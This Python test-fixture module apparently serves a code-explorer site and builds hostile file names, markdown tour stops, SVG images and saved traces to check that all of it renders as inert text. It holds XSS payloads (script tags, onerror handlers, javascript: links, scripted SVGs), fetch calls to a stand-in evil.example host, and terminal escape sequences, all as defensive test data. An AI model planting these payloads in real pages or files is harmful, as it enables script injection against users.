"""What an ill-meaning author could put into a tree, notes and a saved trace: all of it must be text on a page."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from ptexplore.saved.trace import trace_from_json
from ptexplore.view.words.saved import trace_to_json
from tests.unit.saved.test_trace import SAVED
from tests.unit.test_safe_text import spoilt

# Whoever gets to run one of these sets a mark that the tests look for.
MARK = "window.__ran=(window.__ran||0)+1"
TAG = f"<img src=x onerror={MARK}>"
SCRIPT = f"<script>{MARK}</script>"

NAMES = (
    "torch/csrc/quo\"te's.cpp",
    "torch/csrc/sp ace.cpp",
    "torch/csrc/ha#sh.cpp",
    "torch/csrc/per%41cent.cpp",
    "torch/csrc/\u00fcnic\u00f6de_\u96ea.cpp",
    f"torch/csrc/{TAG.replace('/', '')}.cpp",
    "torch/csrc/a&amp;b.cpp",
    "torch/csrc/query?x=1.cpp",
)


def write_files(root: Path) -> None:
    """A file under each of the names, each with a symbol of its own and payloads in its text."""
    for number, name in enumerate(NAMES):
        text = (
            f"// {SCRIPT}{TAG} </ol></div></main>\n/* ]]> --> */\n"
            f'int odd_name_{number}(int a) {{ return mix("{SCRIPT}"); }}\n'
            f"int again_{number}() {{ return odd_name_{number}(1); }}\n"
        )
        (root / name).write_text(text, encoding="utf-8")


# One a stop: a stop that the reader of notes refuses is not on the site, and the others still are.
_PROSE = (
    f"Escaped &lt;b&gt; and `{SCRIPT}{TAG}`",
    f"```cpp\n{SCRIPT}{TAG}\n```",
    SCRIPT,
    f'<svg onload="{MARK}"><script>{MARK}</script></svg>',
    f'<iframe src="javascript:{MARK}"></iframe>',
    f"[a link](javascript:{MARK})",
    f"[a link](JaVaScRiPt:{MARK}) [entities](&#106;avascript:{MARK})",
    f"[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <javascript:{MARK}>",
    f'[quotes](https://example.org/"onmouseover="{MARK})',
    "[plain](https://example.org/?a=1&b=%22%3E) [here](#text-0)",
    "![a picture](evil.svg)",
    f"![a picture](javascript:{MARK})",
    "![a picture](https://example.org/x.png)",
    "\n\n".join(f"![a picture](evil-{number}.svg)" for number in range(10)),
    "a &#x202e;b&#x2066; &rlm;&shy;&zwj; &#xE0041; &#27;]0;x&#7; c",
    "[a link](https://example.org/&#x202e;/x) [a link](java&Tab;script:evil) <data:text/html,x>",
    f"| a `{TAG}` | b |\n|---|---|\n| `{SCRIPT}` | c |",
    f"```mermaid\ngraph LR\n  a[{TAG}] --> b\n```",
)
_HEAD = f"""---
id: hostile
title: 'Title {TAG}{SCRIPT}'
level: basic
summary: 'Summary {TAG}'
baseline: v2.99.0
concepts: []
---

An introduction.
"""


def _quoted(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


def tour() -> str:
    """A tour of payloads, one a stop."""
    stops = [
        f"## Stop `{TAG}` {number} {{#text-{number}}}\n\n```anchor\npath: {_quoted(NAMES[number % len(NAMES)])}\n"
        f"symbol: odd_name_{number % len(NAMES)}\n```\n\n{prose}\n\nMore.\n"
        for number, prose in enumerate(_PROSE)
    ]
    return "\n".join([_HEAD, *stops])


SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" onload="parent.{MARK};{MARK}" width="10" height="10">
<script>{MARK};parent.{MARK};fetch("https://example.org/")</script><image href="https://example.org/x.png"/></svg>
"""


_XMLNS = 'xmlns="http://www.w3.org/2000/svg" width="10" height="10"'
_DRAWN = '<rect width="5" height="5"/>'
_EVIL = "https://evil.example/"
_FETCH = f"fetch('{_EVIL}')"
# Each draws a rectangle, and is a program too: as no pattern sees it.
PROGRAMS = (
    f"<svg {_XMLNS}>{_DRAWN}<b.c:script xmlns:b.c='http://www.w3.org/2000/svg'>{MARK};{_FETCH}</b.c:script></svg>",
    f"<svg {_XMLNS}>{_DRAWN}<é:script xmlns:é='http://www.w3.org/2000/svg'>{MARK};{_FETCH}</é:script></svg>",
    f"<svg {_XMLNS} onload='{MARK}'>{_DRAWN}</svg>",
    f"<svg {_XMLNS}>{_DRAWN}<script xmlns='http://www.w3.org/1999/xhtml'>{MARK};{_FETCH}</script></svg>",
    f"<svg {_XMLNS}>{_DRAWN}<style>@import url(https://evil.example/x.css);</style></svg>",
    f"<svg {_XMLNS}>{_DRAWN}<rect style='fill:url(https://evil.example/x.svg#a)' width='9' height='9'/></svg>",
    f"<svg {_XMLNS}>{_DRAWN}<foreignObject><b xmlns='http://www.w3.org/1999/xhtml'/></foreignObject></svg>",
    f"<svg {_XMLNS}>{_DRAWN}<a href='x'><set attributeName='href' to='javascript:{MARK}'/></a></svg>",
    f"<svg {_XMLNS}>{_DRAWN}<use href='{_EVIL}x.svg#a'/><image href='{_EVIL}x.png'/></svg>",
    f"<svg {_XMLNS}>{_DRAWN}<script>{MARK};{_FETCH}</script></svg>",  # as UTF-16
)


def write_notes(folder: Path) -> None:
    """A tour of payloads, and the pictures that its stops show."""
    (folder / "tours" / "hostile.md").write_text(tour(), encoding="utf-8")
    (folder / "tours" / "evil.svg").write_text(SVG, encoding="utf-8")
    for number, program in enumerate(PROGRAMS):
        encoding = "utf-16" if number == len(PROGRAMS) - 1 else "utf-8"
        text = f'<?xml version="1.0" encoding="{encoding}"?>{program}'
        (folder / "tours" / f"evil-{number}.svg").write_bytes(text.encode(encoding))


def _hop(number: int, name: str, path: str | None, line: int | None, *children: dict[str, Any]) -> dict[str, Any]:
    source = {
        "tree": "mini", "path": path, "line": line, "end_line": line, "layer": "checkout", "candidates": [],
        "precision": "version-skew" if path else "unknown",
        "url": _EVIL if number % 2 else f"javascript:{MARK}",
    }  # fmt: skip
    return {
        "id": number, "kind": "native", "name": name, "status": "observed", "source": source, "phase": "forward",
        "thread": 0, "detail": {}, "evidence": [], "notes": ["hostile.scripts"], "why": [TAG],
        "children": list(children),
    }  # fmt: skip


def trace() -> str:
    """A saved trace whose every text is a payload."""
    inner = _hop(3, f"at::native::mix{TAG}", "aten/src/ATen/native/Mix.cpp", 11)
    hops = [
        _hop(
            1, f"torch.mix {SCRIPT}", None, None, _hop(2, "at::native::use", "aten/src/ATen/native/Mix.cpp", 31, inner)
        )
    ]
    document = {
        "format": 1, "expression": f"mix('{SCRIPT}{TAG}')", "bound": {"a": TAG}, "torch": {"version": f"2.99.0{TAG}"},
        "trees": [{"name": "mini", "version": "2.99.0a0", "commit": "a" * 40, "layers": ["checkout"],
                   "relation": "version-skew"}],
        "captured": {"ops": True, "frames": True, "dispatch": True, "native": True, "reason": None}, "result": {},
        "findings": [{"kind": "cut", "hop": 3, "text": TAG}], "hops": hops,
    }  # fmt: skip
    return json.dumps(document)


def program() -> str:
    """A saved program (format 2) with a payload in every text, and what a terminal would take for an order."""
    recorded, _ = trace_from_json((SAVED / "format2-program.json.gz").read_bytes(), "x")
    return trace_to_json(spoilt(recorded, f"\x1b]0;x\x07\x9b31m\u202e{SCRIPT}{TAG}"))
